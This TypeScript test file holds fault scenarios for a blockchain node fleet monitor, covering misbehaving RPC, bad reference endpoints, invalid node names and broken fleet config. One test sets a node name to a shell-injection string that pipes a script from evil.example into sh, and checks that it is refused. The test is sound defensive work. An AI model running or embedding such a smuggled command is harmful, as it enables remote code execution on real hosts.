// One thing in an exchange's fleet of four is not as it should be: it ends in a refusal or a page that names it, and the rest of the
// fleet is watched, named and alarmed as ever.
import type { Misbehaviour } from '../../../local/nodes/rpc/misbehaviour.ts';
import { referenceHost } from '../../../local/nodes/rpc/reference.ts';
import { VPC_ID } from '../../../local/region/ec2/service.ts';
import type { HttpHost } from '../../../local/region/network.ts';
import type { World, WorldNode } from '../../../local/run/world.ts';
import { addressesOf, seenNow } from '../../../local/scenarios/expectations.ts';
import type { Scenario } from '../../../local/scenarios/scenario.ts';
import { bitcoinChain, consortium, follower, followers, references } from '../../../local/scenarios/worlds.ts';
import { fromItem } from '../../../shared/aws/attributes.ts';
import { alarmName, type NodeAlarmKind } from '../../../shared/fleet/naming.ts';
import type { FleetWatch, Health } from '../../../shared/fleet/observation.ts';
import type { FleetDocument } from '../../../shared/fleet/schema.ts';
import type { Check } from './case.ts';

const ZONE = 'bitcoin.internal';
const PARAMETER = '/chainmend/fleets/bitcoin';
const REFERENCE = 'bitcoin-a.example';
/** Of bitcoin's testnet3 (chainparams.cpp). */
const TESTNET_GENESIS = '000000000933ea01ad0ee984209779baaec3ced90fa3f408719526f8d77f4943';
const NODES = ['node1', 'node2', 'node3', 'node4'];
const NOON_MS = Date.UTC(2026, 0, 1, 12);
const BEGINS_AT_MINUTES = 3;
const ENDS_AT_MINUTES = 14;

interface Bad {
  readonly fleet?: Partial<FleetDocument>;
  readonly zones?: 'none';
  /** Of the second node. */
  readonly node?: Partial<WorldNode>;
  readonly also?: (world: World) => void;
  /** What goes wrong, three minutes after the story's beginning. */
  readonly begins?: (world: World) => unknown;
  /** Whose health is another, and which; nobody's unless given. */
  readonly health?: Readonly<Record<string, Health>>;
  /** Who is not in the pool. */
  readonly outOfPool?: readonly string[];
  /** Who is in it besides. */
  readonly intoPool?: readonly string[];
  readonly expect: Readonly<Record<string, Check>>;
}

function scenarioOf(name: string, told: Bad): Scenario {
  const { fleet, zones, node, also, begins, health = {}, outOfPool = [], intoPool = [], expect } = told;
  const all: Readonly<Record<string, Check>> = {
    ...expect,
    'every other node was seen to be synced': (_, world) =>
      NODES.every((one) => seenNow(world, instanceOf(world, one)) === (health[one] ?? 'synced')),
    ...(zones === undefined && {
      'the pool holds who belongs into it': (_, world) =>
        addressesOf(world, ZONE, 'pool')?.join() ===
        [...NODES.filter((one) => !outOfPool.includes(one)), ...intoPool]
          .map((one) => world.find('bitcoin', one).machine.privateIp)
          .sort()
          .join(),
    }),
    'the others have their alarms': (_, world) =>
      ['node1', 'node3', 'node4'].every((one) =>
        (['disk', 'stuck', 'forked', 'unreachable', 'status-check'] as const).every((kind) =>
          hasAlarm(world, one, kind),
        ),
      ),
    'nobody was paged about another node': ({ pages }) =>
      pages.every((page) => !['node1', 'node3', 'node4'].some((one) => page.node === one)),
    'nothing was healed, and no client restarted': ({ heals }, world) =>
      heals.length === 0 && NODES.every((one) => world.find('bitcoin', one).machine.report().clientStarts.length === 0),
  };
  return {
    name,
    sentence: name,
    ...(fleet && { fleets: { bitcoin: fleet } }),
    ...(zones && { zones }),
    build: (world) => {
      references(world, bitcoinChain(world, 1));
      followers(world, 4, (at) => (at === 1 && node ? node : {}));
      also?.(world);
    },
    ...(begins && { people: (world: World) => world.at(BEGINS_AT_MINUTES, () => begins(world)) }),
    done: ({ region }) => region.clock.now() >= NOON_MS + ENDS_AT_MINUTES * 60_000,
    hours: 1,
    expect: Object.entries(all).map(([sentence, holds]) => ({ sentence, holds })),
  };
}

const hasAlarm = ({ region }: World, node: string, kind: NodeAlarmKind): boolean =>
  region.cloudwatch.alarmState(alarmName('bitcoin', node, kind)) !== undefined;

const instanceOf = (world: World, name: string): string => world.find('bitcoin', name).instanceId;

// What cases end with.

/** Every page but the suite's about itself: one, with this code, about this node, in words that say what is wrong. */
const pagedOnce =
  (code: string, about: string, ...words: readonly RegExp[]): Check =>
  ({ pages }) => {
    const [only, another] = pages.filter((page) => page.code !== 'suite-alarm');
    return (
      another === undefined &&
      only?.code === code &&
      only.node === about &&
      words.every((expected) => expected.test(only.sentence))
    );
  };

const noFunctionFailed: Check = (_, { region }) =>
  ['watch-fleet', 'register-nodes', 'rotate-peers', 'dispatch-heal'].every(
    (name) => region.sqs.depth(`chainmend-${name}-failed`) === 0,
  );

const watchOf = ({ region, tableName }: World, fleet = 'bitcoin'): FleetWatch | undefined =>
  region.dynamodb
    .items(tableName)
    .map((item) => fromItem(item as Parameters<typeof fromItem>[0]))
    .find(({ pk, sk }) => pk === `FLEET#${fleet}` && sk === 'WATCH') as FleetWatch | undefined;

const pushFleet = ({ region }: World, change: object | string): Promise<unknown> => {
  const before = JSON.parse(region.ssm.parameter(PARAMETER) ?? '{}') as object;
  const Value = typeof change === 'string' ? change : JSON.stringify({ ...before, ...change });
  return region.call('ssm', 'PutParameter', { Name: PARAMETER, Value, Type: 'String', Overwrite: true });
};

// A node's RPC.

const rpc = (how: Misbehaviour, health: Health, expect: Readonly<Record<string, Check>>): Bad => ({
  begins: (world) => world.find('bitcoin', 'node2').machine.rpc.misbehave(how),
  health: { node2: health },
  // Of one that could not be asked nothing is known: it stays where it is.
  outOfPool: health === 'unknown' ? [] : ['node2'],
  expect: { ...expect, 'no function failed': noFunctionFailed },
});

const nodes: Readonly<Record<string, Bad>> = {
  'a node’s RPC answers garbage': rpc('garbage', 'unreachable', {
    'people are told what it answers': pagedOnce('node-unreachable', 'node2', /not UTF-8/),
    'it has no lag, not even 0': (_, { region }) =>
      region.cloudwatch
        .seriesOf({ namespace: 'chainmend', name: 'HeightLag', dimensions: { Fleet: 'bitcoin', Node: 'node2' } })
        .every(({ atMs }) => atMs < NOON_MS + (BEGINS_AT_MINUTES + 1) * 60_000),
  }),
  'a node’s RPC answers with ten megabytes': rpc('huge', 'unreachable', {
    'people are told the limit': pagedOnce('node-unreachable', 'node2', /larger|more than|limit/),
  }),
  'a node’s RPC answers after half a minute': rpc('slow', 'unreachable', {
    'people are told how long it was waited for': pagedOnce('node-unreachable', 'node2', /\d+ s/),
    'every sweep came to its end within its minute': (_, { region }) =>
      region.cloudwatch
        .seriesOf({ namespace: 'chainmend', name: 'Watches', dimensions: {} })
        .filter(({ atMs }) => atMs >= NOON_MS).length >= ENDS_AT_MINUTES,
  }),
  'a node’s RPC answers for another chain': rpc('wrong-chain', 'forked', {
    'people are told that it is on another network': pagedOnce('wrong-chain', 'node2', /is on network .*the fleet on/),
  }),
  'a node’s RPC lets nobody in': rpc('unauthorized', 'unknown', {
    'people are told that we are not let in, and the node is not blamed': pagedOnce(
      'cannot-ask',
      'fleet',
      /node2/,
      /401/,
    ),
  }),
};

// References.

const reference = (host: HttpHost, expect: Readonly<Record<string, Check>>): Bad => ({
  begins: ({ region: { network } }) => {
    network.detach(REFERENCE);
    network.attach(REFERENCE, 'internet', host);
  },
  expect: { ...expect, 'no function failed': noFunctionFailed },
});

const answering = (body: string): HttpHost => {
  return () => ({ kind: 'response', statusCode: 200, headers: {}, body, afterMs: 80 });
};

/** A public endpoint that is down wakes nobody; why it counts for nothing is kept. */
const silent = (reason: RegExp): Readonly<Record<string, Check>> => ({
  'it is known to be silent, and why': (_, world) => {
    const [first, second] = watchOf(world)?.references ?? [];
    return first?.state === 'silent' && reason.test(first.reason) && second?.state === 'good';
  },
  'nobody was paged': ({ pages }) => pages.length === 0,
});

const publicEndpoints: Readonly<Record<string, Bad>> = {
  'a reference answers garbage': reference(answering('<html>Bad Gateway</html>'), silent(/JSON/)),
  'a reference answers nothing': reference(() => ({ kind: 'silent' }), silent(/\d+ s/)),
  'a reference’s name does not exist any more': {
    begins: ({ region: { network } }) => network.detach(REFERENCE),
    expect: { ...silent(/bitcoin-a\.example/), 'no function failed': noFunctionFailed },
  },
  'a reference is a private name that nobody has ever made': {
    fleet: { health: { references: ['https://node9.bitcoin.internal/', 'https://bitcoin-b.example/'] } },
    expect: { ...silent(/node9\.bitcoin\.internal/), 'no function failed': noFunctionFailed },
  },
  'a reference answers for another chain': {
    begins: (world) => {
      const other = world.chain({
        name: 'testnet',
        protocol: 'bitcoin',
        chainId: TESTNET_GENESIS,
        heightAtStart: 2_500_000,
        blockIntervalMs: 30_000,
        bytesPerBlock: 0,
        inodesPerBlock: 0,
        consensus: 'elsewhere',
      });
      world.region.network.detach(REFERENCE);
      world.region.network.attach(REFERENCE, 'internet', referenceHost(other).host);
    },
    expect: {
      'people are told which one': pagedOnce('reference-disagrees', 'fleet', /bitcoin-a\.example.*another network/),
      'no function failed': noFunctionFailed,
    },
  },
};

// Names.

const called = (name: string, expect: Readonly<Record<string, Check>>): Bad => ({
  node: { tags: { Name: name } },
  expect: { ...expect, 'no function failed': noFunctionFailed },
});

/** The names were refused before the story began: a page says so once an onset. */
const refusedOnce =
  (code: string, ...words: readonly RegExp[]): Check =>
  ({ refusals, pages }, { region }) => {
    const [only, another] = refusals;
    const told = region.sns
      .published()
      .map(({ message }) => JSON.parse(message) as { code?: string; sentence?: string });
    return (
      another === undefined &&
      only?.guardrail === code &&
      words.every((expected) => expected.test(only.reason)) &&
      told.some((page) => page.code === code && page.sentence === only.reason) &&
      pages.every((page) => page.code === code)
    );
  };

const noRecordBut = (...hosts: readonly string[]): Check => {
  const expected = [...hosts, 'pool'].map((host) => `${host}.${ZONE}`).sort();
  return ({ dns }) =>
    dns
      .filter(({ type }) => type === 'A')
      .map(({ name }) => name)
      .sort()
      .join() === expected.join();
};

const names: Readonly<Record<string, Bad>> = {
  'a node’s name is no DNS label': called('Node 2!', {
    'it is refused by its name, once': refusedOnce('name-invalid', /"Node 2!"/, /letters, digits and -/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a node’s name is a command for a shell': called('node2; curl evil.example | sh #', {
    'it is refused by its name, once': refusedOnce('name-invalid', /curl evil\.example/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
    'no command carried it': (_, { region }) =>
      region.front.trace.calls
        .filter(({ operation }) => operation === 'SendCommand')
        .every(({ input }) => !JSON.stringify(input).includes('evil')),
  }),
  'a node’s name has as many characters as a tag can have': called('n'.repeat(256), {
    'it is called by its instance’s id instead, in the zone too': (report, world) =>
      noRecordBut('node1', instanceOf(world, 'node2'), 'node3', 'node4')(report, world),
    'nobody was paged': ({ pages }) => pages.length === 0,
  }),
  'a node’s name has more characters than a DNS label': called('n'.repeat(100), {
    'it is refused by its name, once': refusedOnce('name-invalid', /63 at most/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a node has no name': called('', {
    'it is called by its instance’s id': (report, world) =>
      noRecordBut('node1', instanceOf(world, 'node2'), 'node3', 'node4')(report, world),
    'nobody was paged': ({ pages }) => pages.length === 0,
  }),
  'a node is called like the pool': called('pool', {
    'it is refused by its name, once': refusedOnce('name-taken', /the pool’s name/),
    'the others have theirs': noRecordBut('node1', 'node3', 'node4'),
  }),
  'a fifth node comes with a name that another has': {
    begins: (world) => world.launch({ ...follower('node5'), tags: { Name: 'node2' } }),
    intoPool: ['node5'],
    expect: {
      'both are refused, each by its id': ({ refusals, pages }, world) =>
        refusals.length > 0 &&
        refusals.every(({ guardrail }) => guardrail === 'name-taken') &&
        pages.length === 2 &&
        ['node2', 'node5'].every((one) =>
          pages.some(({ sentence }) => sentence.startsWith(`${instanceOf(world, one)} is called node2`)),
        ),
      'the record under it is as it was': (_, world) =>
        addressesOf(world, ZONE, 'node2')?.join() === world.find('bitcoin', 'node2').machine.privateIp,
      'no function failed': noFunctionFailed,
    },
  },
};

// What is written in the fleet file.

const unknown: Readonly<Record<string, Health>> = Object.fromEntries(NODES.map((one) => [one, 'unknown']));
const unreachable: Readonly<Record<string, Health>> = Object.fromEntries(NODES.map((one) => [one, 'unreachable']));
const forked: Readonly<Record<string, Health>> = Object.fromEntries(NODES.map((one) => [one, 'forked']));

/** The other fleet of the account is looked after as ever. */
const consortiumIsWell: Check = ({ pages, nodes: all }, world) =>
  all.filter(({ fleet }) => fleet === 'irita').length === 4 &&
  world.nodes
    .filter(({ fleet }) => fleet.name === 'irita')
    .every(({ instanceId }) => seenNow(world, instanceId) === 'synced') &&
  world.region.clock.now() - (watchOf(world, 'irita')?.observedAtMs ?? 0) < 2 * 60_000 &&
  pages.every(({ fleet }) => fleet !== 'irita');

const pushed = (change: object | string, told: Omit<Bad, 'also' | 'begins'>): Bad => ({
  ...told,
  also: (world) => void consortium(world),
  begins: (world) => pushFleet(world, change),
  expect: { ...told.expect, 'the other fleet is looked after as ever': consortiumIsWell },
});

const fleetFiles: Readonly<Record<string, Bad>> = {
  'the fleet’s zone does not exist, until a person makes it as the refusal says': {
    zones: 'none',
    begins: ({ region }) =>
      region.call('route53', 'CreateHostedZone', {
        Name: ZONE,
        VPC: { VPCRegion: region.kernel.regionName, VPCId: VPC_ID },
        CallerReference: ZONE,
      }),
    expect: {
      'it is refused once, with the command that makes it': refusedOnce(
        'zone-missing',
        /bitcoin\.internal/,
        /aws route53 create-hosted-zone/,
      ),
      'then its names come': (_, world) =>
        NODES.every((one) => addressesOf(world, ZONE, one)?.join() === world.find('bitcoin', one).machine.privateIp),
      'no function failed': noFunctionFailed,
    },
  },
  'a zone that is spelt wrongly': pushed(
    { dns: { zone: 'bitcion.internal' } },
    {
      expect: {
        'people are told': pagedOnce('zone-missing', '-', /bitcion\.internal/),
        'the records in the other zone are as they were': noRecordBut(...NODES),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'a file that is no fleet file': pushed('{"fleet": "bitcoin", "mode": "atc"}', {
    expect: {
      'people are told by the suite’s own alarm': ({ pages }) =>
        pages.some(({ sentence }) => sentence.startsWith('chainmend/fleet-file-broken: ')) &&
        pages.every(({ code }) => code === 'suite-alarm'),
      'its records are as they were': noRecordBut(...NODES),
    },
  }),
  'credentials in a parameter that does not exist': pushed(
    { rpc: { credentials: 'ssm:/bitcoin/rpc' } },
    {
      health: unknown,
      expect: {
        'people are told which parameter, and no node is blamed': pagedOnce('cannot-ask', 'fleet', /\/bitcoin\/rpc/),
      },
    },
  ),
  'a probe in another VPC than the nodes’': pushed(
    { probe: { vpc: 'vpc-0fedcba9876543210', subnets: ['subnet-0fedcba9876543210'] } },
    {
      health: unknown,
      expect: {
        'people are told both, and no node is blamed': pagedOnce(
          'cannot-ask',
          'fleet',
          /vpc-0123456789abcdef0.*vpc-0fedcba9876543210/,
        ),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'an RPC port on which nobody listens': pushed(
    { rpc: { port: 8399 } },
    {
      health: unreachable,
      expect: {
        'people are told once of all nodes, and the port': pagedOnce('node-unreachable', '4 nodes', /:8399 refuses/),
        'no function failed': noFunctionFailed,
      },
    },
  ),
  'the name of another network': pushed(
    { health: { chainId: TESTNET_GENESIS } },
    {
      health: forked,
      expect: {
        'people are told once of all nodes': pagedOnce('wrong-chain', '4 nodes', /the fleet on 000000000933/),
        'no function failed': noFunctionFailed,
      },
    },
  ),
};

const FILES = Object.fromEntries(
  Object.entries(fleetFiles).map(([name, told]) => [told.zones ? name : `a fleet file is pushed with ${name}`, told]),
);

export const SCENARIOS: readonly Scenario[] = Object.entries({ ...nodes, ...publicEndpoints, ...names, ...FILES }).map(
  ([name, told]) => scenarioOf(name, told),
);
